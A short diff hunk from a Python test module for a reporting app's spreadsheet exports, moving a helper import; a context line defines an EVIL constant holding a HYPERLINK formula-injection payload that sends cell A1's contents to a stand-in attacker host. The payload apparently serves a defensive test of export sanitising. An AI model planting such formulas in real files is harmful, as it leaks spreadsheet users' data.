@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 
 from beredd.reporting.services import submissions as services
 from beredd.reporting.tests.conftest import GOOD, issue
-from beredd.reporting.tests.test_views import as_user, sub
+from beredd.reporting.tests.helpers import as_user, sub
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
 
